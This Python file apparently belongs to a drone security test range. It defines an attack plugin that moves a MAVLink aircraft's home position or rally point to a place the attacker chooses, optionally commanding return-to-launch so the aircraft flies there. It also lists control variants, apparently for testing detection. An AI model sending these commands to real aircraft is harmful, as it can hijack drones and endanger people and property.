"""Home tampering: home or a rally point is moved, so that a return ends at a place of the attacker."""

from __future__ import annotations

from typing import Literal

import skyrange.plugin as sky
from skyrange.codec.mavlink import dialect as mav


@sky.attack(
    "mavlink.home",
    technique="T0836",
    persists="flight",
    effect="a return or a failsafe takes the aircraft to a place of the attacker",
    budget="one command, or an upload of one item",
    content="the same command with the true home",
    placement="the same home for another aircraft",
)
class FalseHome(sky.Script):
    """Moves home or the rally points of the aircraft."""

    at: sky.Enu = sky.place_param("Place that the aircraft is to return to")
    point: Literal["home", "rally"] = sky.param("What is moved: home, or the rally points to one.", default="home")
    then_rtl: bool = sky.param("Whether RTL is commanded too; else the next return goes there.", default=False)

    def marks(self) -> dict[str, sky.Place]:
        return {f"false {self.point}": self.at}

    def steps(self) -> list[sky.Step]:
        place = sky.geodetic(self.origin, self.at)
        rally = sky.Upload((sky.MissionItem(mav.MAV_CMD_NAV_RALLY_POINT, place),), mav.MAV_MISSION_TYPE_RALLY)
        moved = sky.Order(mav.MAV_CMD_DO_SET_HOME, place=place) if self.point == "home" else rally
        return [moved, sky.mode_order(mav.COPTER_MODE_RTL)] if self.then_rtl else [moved]
